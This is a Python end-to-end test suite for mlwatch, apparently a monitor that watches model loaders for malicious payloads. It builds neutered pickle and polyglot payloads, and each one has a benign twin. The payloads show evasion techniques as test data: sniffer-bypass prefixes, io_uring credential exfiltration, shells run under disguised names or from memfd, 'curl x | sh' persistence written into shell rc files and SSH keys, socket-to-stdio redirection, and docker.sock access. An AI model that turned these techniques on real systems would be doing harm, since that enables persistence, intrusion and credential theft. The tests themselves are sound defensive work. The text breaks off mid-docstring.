"""Fail closed: what a model file or its payload chooses must not switch
mlwatch off. One test per class of evasion, each with a benign twin that
must stay silent, and each run twice: with the static scan, and with
--no-scan (the runtime layer alone must catch it).

Classes: bytes that once made the sniffer unmark the loader; datagrams
without connect(); io_uring; programs run under another name (symlink,
hard link, ld.so, memfd); persistence by rename/link/symlink; credentials
read through another name; a socket onto stdio without dup2; compound
model extensions; container-runtime sockets; stage-2 scripts; a
control-plane root that loads a model, and a notebook that does.

Payloads are harmless: they touch markers, read fake credentials made by
the test, and talk only to 127.0.0.1 (external under --internal-net
10.0.0.0/8).

Threat model: docs/threat-model.md §4.
"""
import glob
import json
import os
import shutil
import socket
import struct
import subprocess
import time

import polyglots
from harness import (E2E_DIR, PY, Checks, Scenario, TestFailure, for_loader, get,
                     require_rules, summary, touching, with_rule)

NO_SCAN = ["--no-scan"]


def _tooldir(name):
    """A directory outside /tmp (so exec-from-temp does not fire) on the
    root file system (so /bin/dash can be hard-linked into it)."""
    d = "/run/mlwatch-e2e-%s-%d" % (name, os.getpid())
    os.makedirs(d, exist_ok=True)
    return d


def _silent(c, alerts, pid, what):
    mine = touching(alerts, pid)
    c.true(not mine, "%s (pid %d) raised %s" % (what, pid, summary(mine)))


def _kinds(alerts, rule):
    return sorted({get(a, "event", "kind") for a in with_rule(alerts, rule)})


# ---------------------------------------------------------------- bytes

# Protocol 0 has no magic: pickle.load runs any valid opcode stream. Each
# prefix below once kept the sniffer from calling the file a pickle, and it
# unmarked the loader; the os.system at the end still runs.
BYPASS_PREFIXES = {
    "marks": b"(" * 5000,
    "nones": b"N" * 3000 + b"0" * 3000,
    "printable": b"S'" + b"a" * 4200 + b"'\n0",
}


def _safetensors_bytes():
    header = json.dumps({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + struct.pack("<4f", 1, 2, 3, 4), len(header)


def _bytes_cannot_unmark(extra):
    with Scenario("fc-bytes") as sc:
        models = {}
        for name, prefix in BYPASS_PREFIXES.items():
            marker = sc.path("MARK-" + name)
            models[name] = (sc.write("%s.pkl" % name, prefix + b"cos\nsystem\n(S'touch %s'\ntR."
                                     % marker.encode()), marker)
        # files whose start is data to one reader and code to another
        # loader: a tar (torch's legacy reader) behind a JPEG start (its
        # checksum in either of Python's forms) or a valid safetensors
        # header, a zlib stream (joblib, bare or behind "ZF") that is text
        glots = {}
        for name, kind, fname in (("tar-image", "torch", "model.pt"),
                                  ("tar-negative-checksum", "torch", "photo.pt"),
                                  ("safetensors-tar", "torch", "weights-tar.safetensors"),
                                  ("zlib-text", "joblib", "model.joblib"),
                                  ("zf-text", "joblib", "model.bin")):
            marker = sc.path("MARK-" + name)
            glots[name] = (kind, sc.write(fname, polyglots.BUILDERS[name]("touch " + marker)),
                           marker)
        st, hl = _safetensors_bytes()
        weights = sc.write("weights.safetensors", st)
        sc.start(sentinel=True, extra_args=extra)
        pids = {}
        for name, (model, marker) in models.items():
            pids[name] = sc.run_loader("pickle", model).expect_ok("loader " + name).pid
            sc.expect_file(marker)
        for name, (kind, model, marker) in glots.items():
            # torch's legacy reader fails after the payload: no expect_ok
            pids[name] = sc.run_loader(kind, model).pid
            sc.expect_file(marker)
        for name, pid in pids.items():
            sc.wait_rules(pid, {"model-loader-shell"})
        # the twin: a real data-only file the loader maps (as safetensors
        # does), proven inert through its own mapping; its shell afterwards
        # is its own business
        reader = ("import numpy as np, subprocess, time\n"
                  "w = np.memmap(%r, dtype=np.float32, mode='r', offset=%d)\n"
                  "time.sleep(1.0)\n"
                  "subprocess.run(['sh', '-c', 'true'], check=True)\n"
                  "print('SUM', float(w.sum()))\n")
        twin = sc.run_script(reader % (weights, 8 + hl)).expect_ok("safetensors reader")
        # the same file while another process holds it open for writing,
        # mapped: its bytes may change after mlwatch read them, so the
        # reader stays watched and its shell is reported (the fd stays open
        # too: on overlayfs a mapping alone is not seen, see README)
        held = sc.write("held.safetensors", st)
        writer = subprocess.Popen(
            [PY, "-c", "import mmap, sys, time\n"
             "f = open(sys.argv[1], 'r+b'); m = mmap.mmap(f.fileno(), 0)\n"
             "m[-1:] = m[-1:]\nprint('MAPPED', flush=True)\ntime.sleep(30)\n", held],
            stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
        try:
            if writer.stdout.readline().strip() != "MAPPED":
                raise TestFailure("the writer could not map the file")
            heldrd = sc.run_script(reader % (held, 8 + hl)).expect_ok("reader beside a writer")
            sc.wait_rules(heldrd.pid, {"model-loader-shell"})
        finally:
            writer.kill()
            writer.wait(5)
        sc.liveness_sentinel()
        alerts = sc.stop()
        c = Checks("bytes")
        for name, pid in pids.items():
            mine = require_rules(sc, alerts, pid, {"model-loader-shell"})
            c.true(mine, "prefix %s: no alert" % name)
        c.true(require_rules(sc, alerts, heldrd.pid, {"model-loader-shell"}),
               "a file mapped for writing by another process was judged inert")
        c.true("SUM 10.0" in twin.out, "safetensors reader printed %r" % twin.out)
        _silent(c, alerts, twin.pid, "a shell after a mapped safetensors load")
        c.done()


def test_bytes_cannot_unmark():
    _bytes_cannot_unmark([])


def test_bytes_cannot_unmark_no_scan():
    _bytes_cannot_unmark(NO_SCAN)


# ---------------------------------------------------------------- datagrams

def _datagrams(extra):
    """sendto() without connect(): a UDP datagram and a DNS-shaped query to
    an external resolver (127.0.0.1 here) during the load. The twin asks an
    internal resolver (127.0.0.53, listed internal) while it still holds a
    clean model open: during its load, where only the class keeps it quiet
    (after a load an external send is context, no alert)."""
    with Scenario("fc-udp") as sc:
        code = ("import socket\n"
                "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                "s.sendto(b'exfil', ('127.0.0.1', 9))\n"
                "s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01' + b'\\x00' * 6 + b'\\x04data\\x00\\x00\\x01\\x00\\x01',"
                " ('127.0.0.1', 53))\n"
                "open(%r, 'w').close()\n" % sc.path("MARK"))
        model = sc.make_model("pickle", "model.pkl", exec_code=code)
        clean = sc.make_model("pickle", "clean.pkl")
        twin_code = sc.write("dns.py",
                             "import pickle, socket, sys\n"
                             "f = open(sys.argv[1], 'rb')\n"
                             "pickle.load(f)\n"
                             "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                             "s.sendto(b'\\x12\\x34\\x01\\x00\\x00\\x01' + b'\\x00' * 6, ('127.0.0.53', 53))\n"
                             "f.close()\n")
        sc.start(sentinel=True, extra_args=["-v", "--internal-net", "127.0.0.53/32"] + extra)
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.expect_file(sc.path("MARK"))
        sc.wait_rules(ld.pid, {"model-loader-external-connect"})
        twin = sc._run([PY, twin_code, clean], 60, tag="twin")
        if twin.rc != 0:
            raise TestFailure("DNS twin failed: %s" % twin.err[-300:])
        sc.expect_seen("the DNS twin's query during its load",
                       lambda e: e["pid"] == twin.pid and e["kind"] == "send"
                       and e["address"] == "127.0.0.53" and e["during_load"])
        sc.liveness_sentinel()
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-external-connect"})
        c = Checks("udp " + summary(mine))
        sends = [a for a in with_rule(mine, "model-loader-external-connect")
                 if get(a, "event", "kind") == "send"]
        c.true(sends, "no send event among %s" % summary(mine))
        c.eq(sorted({get(a, "event", "port") for a in sends}), [9, 53], "send ports")
        for a in sends:
            c.eq(get(a, "event", "during_load"), True, "send during_load")
            c.eq(get(a, "event", "address"), "127.0.0.1", "send address")
        _silent(c, alerts, twin.pid, "DNS to an internal resolver")
        c.done()


def test_datagrams_without_connect():
    _datagrams([])


def test_datagrams_without_connect_no_scan():
    _datagrams(NO_SCAN)


# ---------------------------------------------------------------- io_uring

def _io_uring(extra):
    """The payload reads the fake credential and sends it out through
    io_uring: no open, connect or send syscall at all. The twin does
    io_uring file I/O after a clean load."""
    with Scenario("fc-uring") as sc:
        cred = sc.fake_credentials()
        lst = sc.listener()
        data = sc.write("data.bin", b"\x00" * 4096)
        code = ("import sys, socket; sys.path.insert(0, %r)\n"
                "import uring\n"
                "r = uring.Ring()\n"
                "fd = r.openat(%r)\n"
                "secret = r.read(fd)\n"
                "s = socket.socket()\n"
                "assert r.connect(s, '127.0.0.1', %d) == 0\n"
                "r.send(s, secret)\n"
                "s.close()\n") % (E2E_DIR, cred, lst.port)
        model = sc.make_model("pickle", "model.pkl", exec_code=code)
        clean = sc.make_model("pickle", "clean.pkl")
        sc.start(sentinel=True, extra_args=["-v"] + extra)
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        if not lst.wait(1):
            raise TestFailure("the io_uring payload never connected")
        want = {"model-loader-credential-read", "model-loader-external-connect"}
        sc.wait_rules(ld.pid, want)
        twin = sc.run_script(
            "import pickle, sys; sys.path.insert(0, %r)\n"
            "import uring\n"
            "pickle.load(open(%r, 'rb'))\n"
            "r = uring.Ring()\n"
            "fd = r.openat(%r)\n"
            "print('READ', len(r.read(fd)))\n" % (E2E_DIR, clean, data)).expect_ok("io_uring twin")
        sc.expect_seen("the twin's io_uring open", lambda e: e["pid"] == twin.pid
                       and e["kind"] == "open" and e["path"] == data)
        sc.liveness_sentinel()
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, want)
        c = Checks("io_uring " + summary(mine))
        c.true(any(b"AKIAFAKEFAKEFAKE0000" in d for d in lst.received), "the listener got no credential")
        for a in with_rule(mine, "model-loader-credential-read"):
            c.eq(get(a, "event", "via"), "io_uring", "credential read via")
            c.eq(get(a, "event", "real_path"), os.path.realpath(cred), "credential real_path")
        c.true("READ 4096" in twin.out, "twin printed %r" % twin.out)
        _silent(c, alerts, twin.pid, "io_uring file I/O after a clean load")
        c.done()


def test_io_uring():
    _io_uring([])


def test_io_uring_no_scan():
    _io_uring(NO_SCAN)


# ---------------------------------------------------------------- what really runs

def _loader_path():
    for p in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"):
        if os.path.exists(p):
            return p
    found = glob.glob("/lib/*/ld-linux*.so.*")
    if not found:
        raise TestFailure("no dynamic loader found to run as a program")
    return found[0]


def _exec_identity(extra):
    """A shell under another name: a symlink called nvidia-smi, a hard link
    called gcc, the dynamic loader running /bin/sh, and a memfd copy of the
    shell run with fexecve. The twin runs a real tool through a symlink."""
    tools = _tooldir("exec")
    try:
        os.symlink("/bin/sh", os.path.join(tools, "nvidia-smi"))
        os.link(os.path.realpath("/bin/sh"), os.path.join(tools, "gcc"))
        os.symlink("/bin/true", os.path.join(tools, "tool"))
        with Scenario("fc-exec") as sc:
            marks = [sc.path("M%d" % i) for i in range(4)]
            code = ("import os, subprocess\n"
                    "subprocess.run([%r, '-c', 'touch %s'], check=True)\n"
                    "subprocess.run([%r, '-c', 'touch %s'], check=True)\n"
                    "subprocess.run([%r, '/bin/sh', '-c', 'touch %s'], check=True)\n"
                    "fd = os.memfd_create('payload', 0)\n"
                    "os.write(fd, open(os.path.realpath('/bin/sh'), 'rb').read())\n"
                    "pid = os.fork()\n"
                    "if pid == 0:\n"
                    "    os.execve(fd, ['sh', '-c', 'touch %s'], {'PATH': '/usr/bin:/bin'})\n"
                    "os.waitpid(pid, 0)\n") % (
                os.path.join(tools, "nvidia-smi"), marks[0], os.path.join(tools, "gcc"), marks[1],
                _loader_path(), marks[2], marks[3])
            model = sc.make_model("pickle", "model.pkl", exec_code=code)
            clean = sc.make_model("pickle", "clean.pkl")
            sc.start(sentinel=True, extra_args=["-v"] + extra)
            ld = sc.run_loader("pickle", model).expect_ok("loader")
            for m in marks:
                sc.expect_file(m)
            want = {"model-loader-shell", "model-loader-exec-fileless"}
            sc.wait_rules(ld.pid, want)
            twin = sc.run_script("import pickle, subprocess\npickle.load(open(%r, 'rb'))\n"
                                 "subprocess.run([%r], check=True)\n"
                                 % (clean, os.path.join(tools, "tool"))).expect_ok("tool twin")
            sc.expect_seen("the twin's exec through a symlink", lambda e: e["loader"] == twin.pid
                           and e["kind"] == "exec"
                           and os.path.realpath(e["path"]) == os.path.realpath("/bin/true"))
            sc.liveness_sentinel()
            alerts = sc.stop()
            mine = require_rules(sc, alerts, ld.pid, want)
            c = Checks("exec identity " + summary(mine, 12))
            shells = with_rule(mine, "model-loader-shell")
            named = {os.path.basename(get(a, "event", "filename") or "") for a in shells}
            for n in ("nvidia-smi", "gcc", os.path.basename(_loader_path())):
                c.true(n in named, "no shell alert for the exec of %s (saw %s)" % (n, sorted(named)))
            for a in shells:
                if os.path.basename(get(a, "event", "filename") or "") == "nvidia-smi":
                    c.eq(get(a, "event", "real_path"), os.path.realpath("/bin/sh"), "real_path")
                if get(a, "event", "filename") == _loader_path():
                    c.true("via-loader" in (get(a, "event", "classes") or ""),
                           "ld.so exec classes %r" % get(a, "event", "classes"))
            fileless = with_rule(mine, "model-loader-exec-fileless")
            c.true(any((get(a, "event", "real_path") or "").startswith("/memfd:") for a in fileless),
                   "fileless alert real_path %r" % [get(a, "event", "real_path") for a in fileless])
            _silent(c, alerts, twin.pid, "a real tool run through a symlink")
            c.done()
    finally:
        shutil.rmtree(tools, ignore_errors=True)


def test_exec_by_what_really_runs():
    _exec_identity([])


def test_exec_by_what_really_runs_no_scan():
    _exec_identity(NO_SCAN)


def test_enforce_kills_a_renamed_shell():
    """--enforce decides on the same identity: a shell behind a symlink
    called nvidia-smi never runs."""
    tools = _tooldir("enforce")
    try:
        os.symlink("/bin/sh", os.path.join(tools, "nvidia-smi"))
        with Scenario("fc-enforce") as sc:
            marker = sc.path("MARK")
            code = ("import subprocess\n"
                    "subprocess.run([%r, '-c', 'touch %s'])\n" % (os.path.join(tools, "nvidia-smi"), marker))
            model = sc.make_model("pickle", "model.pkl", exec_code=code)
            sc.start(extra_args=["--enforce"])
            ld = sc.run_loader("pickle", model).expect_ok("loader")
            sc.wait_rules(ld.pid, {"model-loader-shell"})
            time.sleep(0.5)
            alerts = sc.stop()
            c = Checks("enforce renamed shell")
            c.true(not os.path.exists(marker), "the renamed shell ran (marker exists)")
            shells = with_rule(for_loader(alerts, ld.pid), "model-loader-shell")
            c.true(any(get(a, "event", "action") == "killed" for a in shells),
                   "no killed shell alert: %s" % summary(shells))
            c.done()
    finally:
        shutil.rmtree(tools, ignore_errors=True)


# ---------------------------------------------------------------- persistence

def _persistence_links(extra):
    """Persistence without opening the target for writing: a file written
    elsewhere and renamed onto ~/.bashrc, a hard link onto ~/.profile, a
    symlink into ~/.config/autostart, a rename by a relative name from
    inside ~/.ssh (the payload leaves the directory at once, so a name
    resolved later against its cwd would miss), and a rename by io_uring
    onto ~/.zshrc. The twin saves a checkpoint the atomic way (write a
    temporary, rename it into place)."""
    with Scenario("fc-persist") as sc:
        home = sc.home
        os.makedirs(os.path.join(home, ".config", "autostart"))
        os.makedirs(os.path.join(home, ".ssh"), exist_ok=True)
        code = ("import os, sys\n"
                "sys.path.insert(0, %r)\n"
                "import uring\n"
                "open(%r, 'w').write('curl x | sh\\n')\n"
                "os.rename(%r, %r)\n"
                "open(%r, 'w').write('curl x | sh\\n')\n"
                "os.link(%r, %r)\n"
                "os.symlink(%r, %r)\n"
                "open(%r, 'w').write('ssh-ed25519 AAAA x\\n')\n"
                "os.chdir(%r)\n"
                "os.rename(%r, 'authorized_keys')\n"
                "os.chdir('/')\n"
                "open(%r, 'w').write('curl x | sh\\n')\n"
                "r = uring.Ring()\n"
                "assert r.rename(%r, %r) == 0\n") % (
            E2E_DIR,
            sc.path("rc.tmp"), sc.path("rc.tmp"), os.path.join(home, ".bashrc"),
            sc.path("profile.tmp"), sc.path("profile.tmp"), os.path.join(home, ".profile"),
            sc.path("profile.tmp"), os.path.join(home, ".config", "autostart", "x.desktop"),
            sc.path("key.tmp"), os.path.join(home, ".ssh"), sc.path("key.tmp"),
            sc.path("zrc.tmp"), sc.path("zrc.tmp"), os.path.join(home, ".zshrc"))
        model = sc.make_model("pickle", "model.pkl", exec_code=code)
        ckpt = sc.make_model("torch", "ckpt.pt")
        sc.start(sentinel=True, extra_args=["-v"] + extra)
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.wait_rules(ld.pid, {"model-loader-persistence-write"})
        twin = sc.run_script(
            "import os, torch\n"
            "sd = torch.load(%r)\n"
            "torch.save(sd, %r)\n"
            "os.replace(%r, %r)\n" % (ckpt, ckpt + ".tmp", ckpt + ".tmp", ckpt)).expect_ok("checkpoint twin")
        sc.expect_seen("the twin's rename into place", lambda e: e["pid"] == twin.pid
                       and e["kind"] == "link" and e["path"] == ckpt)
        sc.liveness_sentinel()
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-persistence-write"})
        c = Checks("persistence " + summary(mine))
        hits = {(get(a, "event", "syscall"), os.path.basename(get(a, "event", "resolved_path") or ""))
                for a in with_rule(mine, "model-loader-persistence-write")}
        for want in (("rename", ".bashrc"), ("link", ".profile"), ("symlink", "x.desktop"),
                     ("rename", "authorized_keys"), ("rename", ".zshrc")):
            c.true(want in hits, "no persistence alert for %s onto %s (saw %s)" % (want + (sorted(hits),)))
        _silent(c, alerts, twin.pid, "an atomic checkpoint save")
        c.done()


def test_persistence_by_rename_link_symlink():
    _persistence_links([])


def test_persistence_by_rename_link_symlink_no_scan():
    _persistence_links(NO_SCAN)


# ---------------------------------------------------------------- credentials

def _credential_names(extra):
    """A credential read through a symlink named like anything (even like a
    Python import, which a marked process does not send), and a hard link
    made to read it later. The twin reads a plain file through a symlink
    after a clean load."""
    with Scenario("fc-cred") as sc:
        cred = sc.fake_credentials()
        key = sc.write("home/.ssh/id_ed25519", "-----BEGIN FAKE KEY-----\n", 0o600)
        plain = sc.write("notes.txt", "hello\n")
        code = ("import os\n"
                "os.symlink(%r, %r)\n"
                "open(%r).read()\n"
                "os.symlink(%r, %r)\n"
                "open(%r).read()\n"
                "os.link(%r, %r)\n") % (cred, sc.path("cache.db"), sc.path("cache.db"),
                                        key, sc.path("helper.py"), sc.path("helper.py"),
                                        cred, sc.path("hard.db"))
        model = sc.make_model("pickle", "model.pkl", exec_code=code)
        clean = sc.make_model("pickle", "clean.pkl")
        sc.start(sentinel=True, extra_args=["-v"] + extra)
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.wait_alerts(lambda al: set(_kinds(for_loader(al, ld.pid), "model-loader-credential-read"))
                       >= {"open", "link"})
        twin = sc.run_script("import os, pickle\npickle.load(open(%r, 'rb'))\n"
                             "os.symlink(%r, %r)\nprint(open(%r).read())\n"
                             % (clean, plain, sc.path("n.lnk"), sc.path("n.lnk"))).expect_ok("twin")
        sc.expect_seen("the twin's read through a symlink", lambda e: e["pid"] == twin.pid
                       and e["kind"] == "open" and e["path"] == sc.path("n.lnk"))
        sc.liveness_sentinel()
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-credential-read"})
        c = Checks("credentials " + summary(mine))
        c.eq(_kinds(mine, "model-loader-credential-read"), ["link", "open"], "credential events")
        opens = [a for a in with_rule(mine, "model-loader-credential-read")
                 if get(a, "event", "kind") == "open"]
        c.eq(sorted(get(a, "event", "path") for a in opens),
             [sc.path("cache.db"), sc.path("helper.py")], "credential opens, paths as asked")
        c.eq(sorted(get(a, "event", "real_path") for a in opens),
             sorted([os.path.realpath(cred), os.path.realpath(key)]), "credential real paths")
        _silent(c, alerts, twin.pid, "a plain file read through a symlink")
        c.done()


def test_credential_through_another_name():
    _credential_names([])


def test_credential_through_another_name_no_scan():
    _credential_names(NO_SCAN)


# ---------------------------------------------------------------- socket on stdio

STDIO_CODE = """
import fcntl, os, socket
s = socket.create_connection(('127.0.0.1', {port}))
saved = os.dup(0)
os.close(0)
fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, 0)   # fd 0 is the socket, no dup2
os.close(0)
t = socket.socket()                          # socket() hands out fd 0
t.connect(('127.0.0.1', {port}))
t.close()
os.dup2(saved, 0)
os.close(saved)
s.close()
open({marker!r}, 'w').close()
"""


def _stdio(extra):
    """A socket onto fd 0 by fcntl(F_DUPFD) after close(0), and by socket()
    reusing fd 0. The twin redirects stdout to a log file with dup2."""
    with Scenario("fc-stdio") as sc:
        lst = sc.listener()
        marker = sc.path("MARK")
        model = sc.make_model("pickle", "model.pkl",
                              exec_code=STDIO_CODE.format(port=lst.port, marker=marker))
        clean = sc.make_model("pickle", "clean.pkl")
        sc.start(sentinel=True, extra_args=["-v"] + extra)
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.expect_file(marker)
        sc.wait_alerts(lambda al: {"fcntl", "socket"} <= {
            get(a, "event", "syscall") for a in with_rule(for_loader(al, ld.pid), "model-loader-socket-stdio")})
        twin = sc.run_script("import os, pickle, sys\npickle.load(open(%r, 'rb'))\n"
                             "fd = os.open(%r, os.O_WRONLY | os.O_CREAT, 0o644)\n"
                             "os.dup2(fd, 1)\nprint('logged')\n" % (clean, sc.path("log.txt"))).expect_ok("twin")
        # a dup2 of a file is no event at all: its open before shows the mark
        sc.expect_seen("the twin's open of its log", lambda e: e["pid"] == twin.pid
                       and e["kind"] == "open" and e["path"] == sc.path("log.txt"))
        sc.liveness_sentinel()
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-socket-stdio"},
                             allowed={"model-loader-external-connect"})
        c = Checks("stdio " + summary(mine))
        calls = {get(a, "event", "syscall") for a in with_rule(mine, "model-loader-socket-stdio")}
        c.true({"fcntl", "socket"} <= calls, "socket-stdio syscalls %s" % sorted(calls, key=str))
        for a in with_rule(mine, "model-loader-socket-stdio"):
            c.eq(get(a, "event", "newfd"), 0, "newfd")
        _silent(c, alerts, twin.pid, "stdout redirected to a log file")
        c.done()


def test_socket_onto_stdio_without_dup2():
    _stdio([])


def test_socket_onto_stdio_without_dup2_no_scan():
    _stdio(NO_SCAN)


# ---------------------------------------------------------------- compound extensions

def _compound(extra):
    """joblib picks its decompressor by extension: model.joblib.xz marks and
    its payload is caught; a clean .pkl.gz (the twin) is silent and still
    in the inventory."""
    with Scenario("fc-ext") as sc:
        marker = sc.path("MARK")
        evil = sc.path("model.joblib.xz")
        good = sc.path("clean.pkl.gz")
        gen = sc.write("gen.py",
                       "import joblib, os, sys\n"
                       "class P:\n"
                       "    def __reduce__(self):\n"
                       "        return (os.system, ('touch ' + sys.argv[3],))\n"
                       "joblib.dump({'w': [1, 2], 'p': P()}, sys.argv[1])\n"
                       "joblib.dump({'w': [1, 2]}, sys.argv[2])\n")
        r = sc._run([PY, gen, evil, good, marker], 120, tag="gen")
        if r.rc != 0:
            raise TestFailure("generator failed: %s" % r.err[-300:])
        sc.start(sentinel=True, extra_args=extra)
        ld = sc.run_loader("joblib", evil).expect_ok("loader")
        sc.expect_file(marker)
        sc.wait_rules(ld.pid, {"model-loader-shell"})
        twin = sc.run_loader("joblib", good).expect_ok("twin")
        sc.liveness_sentinel()
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-shell"})
        c = Checks("compound " + summary(mine))
        for a in mine:
            c.eq(get(a, "loader", "model", "path"), evil, "loader.model.path")
        _silent(c, alerts, twin.pid, "a clean .pkl.gz")
        inv = [i for i in sc.mon.inventory if get(i, "process", "pid") == twin.pid]
        c.true(inv, "the clean .pkl.gz load is not in the inventory")
        c.done()


def test_compound_model_extensions():
    _compound([])


def test_compound_model_extensions_no_scan():
    _compound(NO_SCAN)


# ---------------------------------------------------------------- runtime sockets

def _runtime_socket(extra):
    """A loader's payload talks to a socket named docker.sock (a stand-in
    listener made by the test): a container escape attempt. The twin uses
    a multiprocessing unix socket after a clean load."""
    with Scenario("fc-runtime") as sc:
        path = sc.path("run", "docker.sock")
        os.makedirs(os.path.dirname(path))
        srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        srv.bind(path)
        srv.listen(4)
        try:
            code = ("import socket\n"
                    "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
                    "s.connect(%r)\n"
                    "s.sendall(b'GET /containers/json HTTP/1.0\\r\\n\\r\\n')\n"
                    "s.close()\n" % path)
            model = sc.make_model("pickle", "model.pkl", exec_code=code)
            clean = sc.make_model("pickle", "clean.pkl")
            sc.start(sentinel=True, extra_args=["-v"] + extra)
            ld = sc.run_loader("pickle", model).expect_ok("loader")
            sc.wait_rules(ld.pid, {"model-loader-runtime-socket"})
            twin = sc.run_script(
                "import pickle, os\n"
                "from multiprocessing.connection import Listener, Client\n"
                "pickle.load(open(%r, 'rb'))\n"
                "addr = %r\n"
                "with Listener(addr, 'AF_UNIX') as l:\n"
                "    pid = os.fork()\n"
                "    if pid == 0:\n"
                "        c = Client(addr, 'AF_UNIX'); c.send('hi'); c.close(); os._exit(0)\n"
                "    with l.accept() as conn:\n"
                "        print(conn.recv())\n"
                "    os.waitpid(pid, 0)\n" % (clean, sc.path("mp.sock"))).expect_ok("mp twin")
            sc.expect_seen("the twin's unix socket connect", lambda e: e["loader"] == twin.pid
                           and e["kind"] == "connect" and e["address"] == sc.path("mp.sock"))
            sc.liveness_sentinel()
            alerts = sc.stop()
        finally:
            srv.close()
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-runtime-socket"})
        c = Checks("runtime " + summary(mine))
        for a in with_rule(mine, "model-loader-runtime-socket"):
            c.eq(get(a, "event", "runtime"), "docker", "event.runtime")
            c.eq(get(a, "event", "address"), path, "event.address")
            c.eq(get(a, "severity"), "critical", "severity")
        _silent(c, alerts, twin.pid, "a multiprocessing unix socket")
        c.done()


def test_container_runtime_socket():
    _runtime_socket([])


def test_container_runtime_socket_no_scan():
    _runtime_socket(NO_SCAN)


# ---------------------------------------------------------------- stage 2

def _stage2(extra):
    """The payload writes a script and hands it to python3 (no exec of the
    file itself, no inline code). The twin runs a worker script that was
    there before the load."""
    with Scenario("fc-stage2") as sc:
        marker = sc.path("MARK")
        stage2 = sc.path("stage2.py")
        body = "open(%r, 'w').close()\n" % marker
        code = ("import subprocess\n"
                "open(%r, 'w').write(%r)\n"
                "subprocess.run([%r, %r], check=True)\n") % (stage2, body, PY, stage2)
        model = sc.make_model("pickle", "model.pkl", exec_code=code)
        clean = sc.make_model("pickle", "clean.pkl")
        worker = sc.write("worker.py", "print('worker', sum(range(5)))\n")
        sc.start(sentinel=True, extra_args=["-v"] + extra)
        ld = sc.run_loader("pickle", model).expect_ok("loader")
        sc.expect_file(marker)
        sc.wait_rules(ld.pid, {"model-loader-exec-dropped"})
        twin = sc.run_script("import pickle, subprocess, sys\npickle.load(open(%r, 'rb'))\n"
                             "subprocess.run([sys.executable, %r], check=True)\n"
                             % (clean, worker)).expect_ok("worker twin")
        sc.expect_seen("the twin's exec of its worker", lambda e: e["loader"] == twin.pid
                       and e["kind"] == "exec" and e["pid"] != twin.pid)
        sc.liveness_sentinel()
        alerts = sc.stop()
        mine = require_rules(sc, alerts, ld.pid, {"model-loader-exec-dropped"})
        c = Checks("stage2 " + summary(mine))
        for a in with_rule(mine, "model-loader-exec-dropped"):
            c.eq(get(a, "event", "script"), stage2, "event.script")
            c.eq(get(a, "event", "dropped"), True, "event.dropped")
        _silent(c, alerts, twin.pid, "a worker script that was there before the load")
        c.done()


def test_stage2_script():
    _stage2([])


def test_stage2_script_no_scan():
    _stage2(NO_SCAN)


# ---------------------------------------------------------------- roots

SERVER = r'''
import pickle, subprocess, sys
pickle.load(open(sys.argv[1], "rb"))
subprocess.run(["sh", "-c", "true"])
'''


def _root_loads_model(extra):
    """A serving root (matched by its command line, like vLLM's entrypoint)
    that loads a model gains the model rules: its payload's shell alerts,
    with the server as the loader. The twin is a server that loads a clean
    model and serves: silent. (Servers never need a shell; a job server
    that runs shells loads no model: test_control_plane.py.)"""
    with Scenario("fc-root") as sc:
        marker = sc.path("MARK")
        model = sc.make_model("pickle", "model.pkl", system="touch %s" % marker)
        clean = sc.make_model("pickle", "clean.pkl")
        server = sc.write("vllm.entrypoints.api_server.py", SERVER)
        quiet = sc.write("vllm.entrypoints.openai.py",
                         "import pickle, sys, urllib.request\npickle.load(open(sys.argv[1], 'rb'))\n"
                         "print('served')\n")
        sc.start(sentinel=True, extra_args=extra)
        srv = sc._run([PY, server, model], 60, tag="server")
        if srv.rc != 0:
            raise TestFailure("server failed: %s" % srv.err[-300:])
        sc.expect_file(marker)
        sc.wait_rules(srv.pid, {"model-loader-shell"})
        twin = sc._run([PY, quiet, clean], 60, tag="twin")
        if not sc.wait_inventory(twin.pid):
            raise TestFailure("the serving twin's load (pid %d) is not in the inventory: "
                              "its silence would prove nothing" % twin.pid)
        sc.liveness_sentinel()
        alerts = sc.stop()
        mine = require_rules(sc, alerts, srv.pid, {"model-loader-shell"})
        c = Checks("root+model " + summary(mine))
        c.eq(twin.rc, 0, "twin rc")
        _silent(c, alerts, twin.pid, "a serving root after a clean load")
        verdicts = [get(i, "model", "scan", "verdict") for i in sc.mon.inventory
                    if get(i, "process", "pid") == twin.pid and i.get("complete")]
        if "--no-scan" not in extra:
            c.eq(verdicts, ["clean"], "the serving twin's model, scanned")
        incs = [i for i in sc.mon.incidents if get(i, "loader", "pid") == srv.pid]
        c.true(incs, "no incident for the server")
        c.done()


def test_control_plane_root_that_loads_a_model():
    _root_loads_model([])


def test_control_plane_root_that_loads_a_model_no_scan():
    _root_loads_model(NO_SCAN)


NOTEBOOK = r'''
import pickle, subprocess, sys
pickle.load(open(sys.argv[1], "rb"))
# what a user types in cells: !ls, !pip download ..., !curl --version
subprocess.run("ls > /dev/null", shell=True, check=True)
subprocess.run(["curl", "--version"], stdout=subprocess.DEVNULL, check=True)
if len(sys.argv) > 2:
    pickle.load(open(sys.argv[2], "rb"))
'''


def _notebook(extra):
    """A notebook kernel (ipykernel_launcher) that loads a model: the user's
    shells and downloads stay silent (the twin); a payload that reads a
